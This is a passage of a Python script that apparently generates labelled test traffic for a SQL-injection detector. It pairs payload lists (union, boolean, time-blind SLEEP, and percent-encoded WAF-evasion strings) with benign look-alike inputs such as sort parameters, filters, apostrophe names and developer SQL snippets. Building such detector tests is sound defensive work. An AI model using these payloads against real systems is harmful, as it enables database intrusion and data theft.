    "1e0union all select null,@@version#",
    "-1.0UNION SELECT 1,2",
    "' OR 1 IS NOT NULL--",
    "' OR 1 SOUNDS LIKE 1#",
    "' OR GREATEST(1,2)=2#",
    "' OR STRCMP('a','a')=0#",
    "' OR 1<=>1#",
    "1 and locate('r',user())=1",
]

# The same techniques as a tool puts them on the wire: already percent-encoded (whitespace substitutes, %a0,
# double encoding, overlong and multibyte quotes). Placed without re-encoding where the place decodes them.
EVASION_URLENCODED = [
    "1%0bUNION%0bSELECT%0b1,2,3",
    "1%a0UNION%a0SELECT%a0password%a0FROM%a0users",
    "-1%09UNION%09ALL%09SELECT%09NULL,version()--",
    "1%0cAND%0c1=1",
    "'%0aOR%0a1=1--%20-",
    "1%0dUNION%0dSELECT%0d1,2",
    "1+UNION+SELECT+1,user(),3--+",
    "%27%20OR%201%3D1--%20",
    "%2527%20OR%201=1--",
    "1%252f%252a*/UNION%252f%252a*/SELECT%201,2",
    "1%00'%20UNION%20SELECT%201,2--",
    "%u0027%20OR%201=1--",
    "1%23%0AUNION%23%0ASELECT%201,2",
    "'%09AND%09SLEEP(5)%23",
    "1%20AND%20%28SELECT%20%2A%20FROM%20%28SELECT%28SLEEP%285%29%29%29x%29",
    "%bf%27%20OR%201=1--",
    "%c0%a7%20OR%201=1--",
    "1%0BOR%0B1%3D1",
    "%ef%bc%87%20OR%201=1--",
    "1%a0and%a0sleep(4)%23",
]

SUBS: dict[str, list[str]] = {
    "numeric": NUMERIC, "string-single": STRING_SINGLE, "string-double": STRING_DOUBLE, "like": LIKE,
    "order-by": ORDER_BY, "group-having": GROUP_HAVING, "limit-offset": LIMIT_OFFSET, "identifier": IDENTIFIER,
    "in-list": IN_LIST, "insert-values": INSERT_VALUES, "update-set": UPDATE_SET, "json-ops": JSON_OPS,
    "stacked": STACKED, "time-blind": TIME_BLIND, "heavy-query": HEAVY_QUERY, "boolean-blind": BOOLEAN_BLIND,
    "union": UNION, "error-based": ERROR_BASED, "out-of-band": OUT_OF_BAND, "schema-file": SCHEMA_FILE,
    "orm-hql": ORM_HQL, "evasion-comment": EVASION_COMMENT, "evasion-case-space": EVASION_CASE_SPACE,
    "evasion-encoding": EVASION_ENCODING, "evasion-operator": EVASION_OPERATOR,
}

_WIRE_SAFE = "%'()*,=!-._~+/:@$"


def _decoded(raw: str) -> str:
    """What a server decodes a percent-encoded value to (UTF-8 if it is, else bytes as Latin-1)."""
    data = urllib.parse.unquote_to_bytes(raw.replace("+", " "))
    try:
        return data.decode("utf-8")
    except UnicodeDecodeError:
        return data.decode("latin-1")


def _place_encoded(place: str, name: str, raw: str) -> dict[str, Any]:
    """Like _place, for a value that is already percent-encoded: sent as is in the URI, form body and cookie;
    decoded into JSON; as literal text in a header."""
    wire = urllib.parse.quote(raw, safe=_WIRE_SAFE)
    if place == "query":
        return _get(f"/api/users?{name}={wire}&page=1")
    if place == "form":
        return {**_form("/admin/users/search", []), "body": f"csrf_token=t0k3n&{name}={wire}"}
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: _decoded(raw)})
    if place == "cookie":
        return {**_get("/api/users?page=1"),
                "headers": {"User-Agent": UA, "Accept": "application/json",
                            "Cookie": "session=abc123; prefs=" + urllib.parse.quote(raw, safe="%")}}
    return _place("header", name, raw)


def attacks() -> Iterator[dict[str, Any]]:
    n = i = 0
    for sub, payloads in SUBS.items():
        for p in payloads:
            for place, name in three_places(i, NAMES):
                n += 1
                yield {**_place(place, name, p), "id": f"{SET}-sqli-{n:04d}", "category": "sqli", "sub": sub,
                       "placement": place, "payload": p}
            i += 1
    for p in EVASION_URLENCODED:
        for place, name in three_places(i, NAMES):
            n += 1
            yield {**_place_encoded(place, name, p), "id": f"{SET}-sqli-{n:04d}", "category": "sqli",
                   "sub": "evasion-urlencoded", "placement": place, "payload": p}
        i += 1


# -- benign: the same parameters as real clients fill them ---------------------------------------------------

SORTS = [
    "created_at desc", "-updated_at,name", "name", "name asc", "price:desc", "-created_at",
    "updated_at DESC, id ASC", "last_name,first_name", "+priority,-due_date", "score desc nulls last",
    "relevance", "date_desc", "title.asc", "popularity", "distance", "createdAt:-1", "asc", "DESC",
    "descending", "1", "2 desc", "created_at.desc.nullslast", "name.asc,id.desc", "-stars",
    "starred_at", "lastModifiedDate,desc", "sortOrder", "id", "email ASC", "rank,-score,name",
    "due_date asc, priority desc", "customer.last_name", "orders_count DESC", "modified", "-modified,title",
    "[{\"field\":\"created_at\",\"dir\":\"desc\"}]", "createdAt DESC", "title:asc,year:desc", "newest",
    "price_low_to_high", "order_date desc, order_id desc", "name_ci asc", "sort_key,created",
    "+name", "total_amount desc", "lastLogin", "size desc", "updated", "weight asc, name asc", "best_match",
]
SORT_PARAMS = ["sort", "order", "order_by", "orderBy", "sort_by", "dir", "column"]

FIELDS = [
    ("fields", "id,name,email"), ("fields", "id,name,email,created_at"), ("fields[users]", "name,email"),
    ("fields", "*"), ("fields", "user(id,name),items(sku,qty)"), ("fields", "id,title,author.name"),
    ("fields", "items/sku,items/price"), ("fields", "data(id,attributes(name))"), ("select", "id,name"),
    ("select", "id,name,orders(total,created_at)"), ("order", "created_at.desc.nullslast"),
    ("status", "eq.open"), ("age", "gte.18"), ("name", "ilike.*smith*"), ("or", "(age.lt.18,age.gt.65)"),
    ("id", "in.(1,2,3)"), ("tags", "cs.{urgent,billing}"), ("$select", "Name,Price,Category"),
    ("$orderby", "Price desc"), ("$top", "10"), ("$expand", "Orders($select=Id,Total)"),
    ("include", "author,comments.author"), ("fields", "name,avatar_url,-password"),
    ("columns", "id, name, email, role"), ("fields", "id;name;email"), ("embed", "profile,settings"),
    ("expand", "data.customer,data.invoice"), ("fields", "items(id,snippet(title,publishedAt))"),
    ("attributes", "userName,emails,groups"), ("projection", "{\"name\":1,\"email\":1,\"_id\":0}"),
]

FILTERS = [
    ("filter", "status:open priority>2"), ("filter", "price between 10 and 20"),
    ("filter", 'userName eq "bjensen"'), ("filter", 'emails[type eq "work" and value co "@example.com"]'),
    ("$filter", "Price gt 20 and Category eq 'Books'"), ("$filter", "startswith(Name,'O''Brien')"),
    ("jql", 'project = WEB AND status in (Open, "In Progress") ORDER BY created DESC'),
    ("q", "title:(quick OR brown) AND author:\"O'Neil\""), ("q", "name:smith* -status:deleted"),
    ("filter", "ga:pagePath=~^/blog/"), ("where", '{"score":{"$gt":1000},"playerName":"Sean Plott"}'),
    ("filters[title][$contains]", "sql"), ("filter[status]", "active"), ("filter", "created>=2024-01-01"),
    ("filter", "is:open is:pr label:bug"), ("q", "repo:acme/api is:issue state:open"),
    ("filter", "country in (US, CA, MX)"), ("filter", "rating >= 4 and reviews > 100"),
    ("search", "size:large color:red -sold"), ("filter", "amount > 100 OR currency = 'EUR'"),
    ("where", "status = 'shipped'"), ("filter", "not archived"), ("filter", "tag:\"release notes\""),
    ("q", "from:alice@example.com subject:\"Q3 report\" has:attachment"), ("filter", "updated_at<now-7d"),
    ("filter", "assignee = currentUser() AND resolution = Unresolved"), ("filter", "price:[10 TO 20]"),
    ("filter", "category=books&subcategory=databases"), ("search", "\"exact phrase\" OR alternative"),
    ("filter", "start_date:2024-06-01..2024-06-30"), ("filter", "type eq 'invoice' and total ge 500"),
    ("filter", "owner.id == 42 && state != closed"), ("filter", "name like 'Acme%'"),
    ("search", "select committee hearing"), ("filter", "region IN ('emea','apac')"),
    ("filter", "last_seen is null"), ("q", "union station parking"), ("filter", "deleted=false"),
    ("filter", "(priority = high or priority = urgent) and status != done"), ("lang", "en-US,en;q=0.9"),
    ("token", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.Zm9vYmFy"), ("limit", "50"), ("offset", "100"),
    ("category", "Books > Computers & Technology > Databases"), ("filter", "score>=0.75"),
]

NAMES_WITH_APOSTROPHES = [
    "O'Brien", "D'Angelo", "Shaquille O'Neal", "Mary-Kate O'Connor", "Dell'Olio", "N'Golo Kanté",
    "L'Oréal", "Ng'ang'a", "d'Artagnan", "Tim O'Reilly", "Jean-Luc D'Aubigné", "Hawai'i Pacific Health",
    "Chloë O'Sullivan-Smith", "Seán Ó Dálaigh", "Mike O'Leary", "Zoë D'Souza", "Ma'ake Kemoeatu",
    "Conan O'Brien", "Michelle D'Amico", "Patrick O'Malley", "Giulia D'Annunzio", "Liam O'Neill",
    "Sinéad O'Connor", "Toni D'Ambrosio", "Bill O'Hare", "Rosie O'Donnell", "Beyoncé Knowles-Carter",
    "Kate d'Hauteville", "Joe's Pizza & Pasta", "Macy's Inc.",
]

TITLES = [
    "Learning SQL, 3rd Edition", "SQL Cookbook", "High Performance MySQL", "PostgreSQL: Up and Running",
    "Designing Data-Intensive Applications", "SQL Pocket Guide", "MySQL Cookbook", "Database Internals",
    "Head First SQL", "T-SQL Fundamentals", "SQL Antipatterns", "The Art of SQL", "Oracle PL/SQL Programming",
    "SQL in a Nutshell", "Mastering Oracle SQL", "Learning PHP, MySQL & JavaScript", "Programming Perl",
    "Don't Make Me Think", "The Hitchhiker's Guide to the Galaxy", "O'Reilly's Kubernetes: Up and Running",
    "You Don't Know JS", "Fluent Python", "Select Works of Oscar Wilde", "Union Pacific: A History",
    "Order and Chaos", "Drop Shot Fishing Guide", "The Sleep Book", "Where the Crawdads Sing",
    "Group Theory in a Nutshell for Physicists", "Delete This at Your Peril",
]

PROSE = [
    "select the right plan, then update your card",
    "Please drop me a line when the table for six is ready",
    "Union members can select their delegates from the list below",
    "I want to order by phone, not online",
    "Delete my account and all my data, please",
    "Where do I insert the SIM card?",
    "Sleep well and update us tomorrow on the order",
    "Join us for dinner; we'll select a table by the window",
    "Can I merge my two accounts? Select 'merge' in settings didn't work",
    "Having trouble with the update - the order from 1 or 2 days ago is missing",
    "How do I create a table of contents and then insert page numbers?",
    "Our union rep said to select option 2 and drop the grievance",
    "The bench is from 1=1 design studio, order #4471",
    "Can someone update the sort order of the menu from A to Z?",
    "Where can I find the execute button? I'm in admin mode",
    "I'd like to declare my interest and grant access to my colleague",
    "We need to alter the dress and drop the hem by an inch",
    "Is it true or false that the shop is closed on Sundays?",
    "Select all that apply: cash, card, or bank transfer",
    "Please insert coin, then select your drink",
    "If the count is wrong, update the sheet and sleep on it",
    "Table 5 wants to order dessert; where is the menu?",
    "Benchmark results from our Mac vs PC comparison are in the doc",
    "I can't log in since the update, it says 'invalid user or password'",
    "Group by color, then order by size - that's how the shelf is arranged",
    "From the top: select a seat, choose a meal, and confirm",
    "Waiting for delay notice on order 12-345 from the warehouse",
    "Shall I drop by the office or union hall to sign the form?",
    "Having said that, it's limited to one per customer",
    "Null and void: the contract where the seller didn't sign",
]

DEVSQL = [
    "anyone know why this is slow? ```SELECT u.id, count(*) FROM users u JOIN orders o ON o.user_id = u.id "
    "WHERE o.created_at > now() - interval '7 days' GROUP BY u.id ORDER BY 2 DESC LIMIT 50;```",
    "```Limit  (cost=0.43..8.45 rows=1 width=72) (actual time=0.021..0.022 rows=1 loops=1)\n"
    "  ->  Index Scan using users_email_key on users  (cost=0.43..8.45 rows=1 width=72)\n"
    "        Index Cond: ((email)::text = 'a@example.org'::text)\nPlanning Time: 0.110 ms\n"
    "Execution Time: 0.041 ms```",
    "```| id | select_type | table  | type | possible_keys | key      | rows | Extra       |\n"
    "|  1 | SIMPLE      | orders | ref  | idx_user      | idx_user |   12 | Using where |```",
    "reminder: never build queries by concatenating strings, use params: "
    "`cur.execute(\"SELECT * FROM users WHERE email = %s\", (email,))`",
    "ran `UPDATE accounts SET plan = 'pro' WHERE id IN (101, 102);` on staging, 2 rows affected",
    "`ALTER TABLE events ADD COLUMN tenant_id bigint;` is going to lock the table, schedule it for the window",
    "migration plan: 1) CREATE INDEX CONCURRENTLY idx_orders_user ON orders(user_id); 2) drop the old one",
    "pg_stat_statements says the top query is `SELECT * FROM sessions WHERE token = $1`",
    "the backfill: INSERT INTO daily_totals (day, total) SELECT date_trunc('day', created_at), sum(amount) "
    "FROM payments GROUP BY 1 ON CONFLICT (day) DO UPDATE SET total = EXCLUDED.total;",
    "why does `SELECT COUNT(*) FROM information_schema.tables` take 3s on the replica?",
    "sqlite: `SELECT name FROM sqlite_master WHERE type='table';` lists them",
    "UNION ALL vs UNION: UNION dedups, so `SELECT id FROM a UNION ALL SELECT id FROM b` is faster",
    "set statement_timeout = '30s'; before running the report please",
    "the JSON filter: `SELECT id FROM events WHERE payload->>'type' = 'signup' AND payload @> '{\"plan\":\"pro\"}'`",
    "MySQL side: SELECT JSON_EXTRACT(attrs, '$.color') FROM products LIMIT 10;",
    "deadlock log:\n```*** (1) TRANSACTION:\nUPDATE inventory SET qty = qty - 1 WHERE sku = 'A-100'```",
    "the MSSQL job does WAITFOR DELAY '00:00:05' between batches, that's why it takes an hour",
    "```id  select_type  table       type  key   rows  Extra\n1   PRIMARY      <derived2>  ALL   NULL  1200  "
    "Using filesort```",
    "`DELETE FROM sessions WHERE expires_at < now() - interval '30 days';` runs nightly from cron",
    "dbt model: `select customer_id, sum(amount) as ltv from {{ ref('payments') }} group by 1`",
    "BigQuery: SELECT * FROM `project.dataset.events_*` WHERE _TABLE_SUFFIX BETWEEN '20240101' AND '20240131'",
    "Snowflake: `COPY INTO @stage/unload FROM (SELECT * FROM orders) FILE_FORMAT = (TYPE = PARQUET)`",
    "pg: `COPY (SELECT * FROM users WHERE created_at > '2024-06-01') TO STDOUT WITH CSV HEADER` then gzip it",
    "Oracle folks: `SELECT table_name FROM all_tables WHERE owner = 'APP'` shows them",
    "window function: `ROW_NUMBER() OVER (PARTITION BY user_id ORDER BY created_at DESC) AS rn` then keep rn = 1",
    "CASE WHEN status = 'paid' THEN amount ELSE 0 END - that's how the revenue column is computed",
    "EXPLAIN (ANALYZE, BUFFERS) shows `Seq Scan on orders  (cost=0.00..35811.00 rows=1000000 width=48)`, "
    "we need an index",
    "`SHOW PROCESSLIST` has 40 sleeping connections from the worker pool",
    "```Hash Join  (cost=35.50..120.10 rows=900 width=40)\n  Hash Cond: (o.user_id = u.id)\n"
    "  ->  Seq Scan on orders o\n  ->  Hash\n        ->  Seq Scan on users u```",
    "CTE version: WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') "
    "SELECT status, count(*) FROM recent GROUP BY status;",
    "table sizes: `SELECT relname, pg_size_pretty(pg_total_relation_size(relid)) FROM "
    "pg_catalog.pg_statio_user_tables ORDER BY pg_total_relation_size(relid) DESC;`",
    "SELECT table_name, table_rows FROM information_schema.tables WHERE table_schema = 'app' "
    "ORDER BY table_rows DESC;",
    "Prisma generated: SELECT \"public\".\"User\".\"id\", \"public\".\"User\".\"email\" FROM \"public\".\"User\" "
    "WHERE \"public\".\"User\".\"email\" = $1 LIMIT $2 OFFSET $3",
    "Hibernate log: select u1_0.id,u1_0.name from users u1_0 where u1_0.email=?",
    "JPQL: `SELECT o FROM Order o WHERE o.customer.id = :id ORDER BY o.createdAt DESC`",
    "`GRANT SELECT ON ALL TABLES IN SCHEMA analytics TO looker;` done",
    "sqlite trick: `PRAGMA table_info(users);`",
    "tsql: SELECT TOP 10 * FROM dbo.Orders WITH (NOLOCK) ORDER BY OrderDate DESC",
    "ClickHouse: SELECT toStartOfHour(ts) AS h, count() FROM events GROUP BY h ORDER BY h",
]


def benign() -> Iterator[dict[str, Any]]:
    pre = f"{SET}-benign"
    n = 0
    for i, value in enumerate(SORTS):
        param = SORT_PARAMS[i % len(SORT_PARAMS)]
        for placement, rec in (("query", _get(_query("/api/users", [(param, value), ("page", "1")]))),
                               ("json", _json("/api/users/search", {"q": "ann", "sort": value, "limit": 25}))):
            n += 1
            yield {**rec, "id": f"{pre}-sort-{n:04d}", "category": "benign", "placement": placement}
    for param, value in FIELDS:
        for placement, rec in (("query", _get(_query("/api/users", [(param, value)]))),
                               ("form", _form("/admin/users/search", [("csrf_token", "t0k3n"), (param, value)]))):
            n += 1
            yield {**rec, "id": f"{pre}-fields-{n:04d}", "category": "benign", "placement": placement}
    for param, value in FILTERS:
        for placement, rec in (("query", _get(_query("/api/users", [(param, value), ("page", "2")]))),
                               ("json", _json("/api/users/search", {param: value}))):
            n += 1
            yield {**rec, "id": f"{pre}-filter-{n:04d}", "category": "benign", "placement": placement}
    for i, name in enumerate(NAMES_WITH_APOSTROPHES):
        local = name.lower().replace(" & ", " and ").replace(" ", ".").rstrip(".")
        email = urllib.parse.quote(local.encode("ascii", "ignore").decode(), safe="'.-") + "@example.ie"
        for placement, rec in (("json", _json("/api/users", {"name": name, "email": email})),
                               ("query", _get(_query("/api/users", [(["search", "user", "q"][i % 3], name)])))):
            n += 1
            yield {**rec, "id": f"{pre}-name-{n:04d}", "category": "benign", "placement": placement}
    for i, title in enumerate(TITLES):
        param = ["search", "q", "title"][i % 3]
        n += 1
        yield {**_get(_query("/api/books", [(param, title), ("category", "books")])), "id": f"{pre}-title-{n:04d}",
               "category": "benign", "placement": "query"}
    yield from links_and_prose([], PROSE, pre, n)
    yield from chat_and_bio(DEVSQL, f"{pre}-devsql")


if __name__ == "__main__":
    print_records(attacks(), benign())
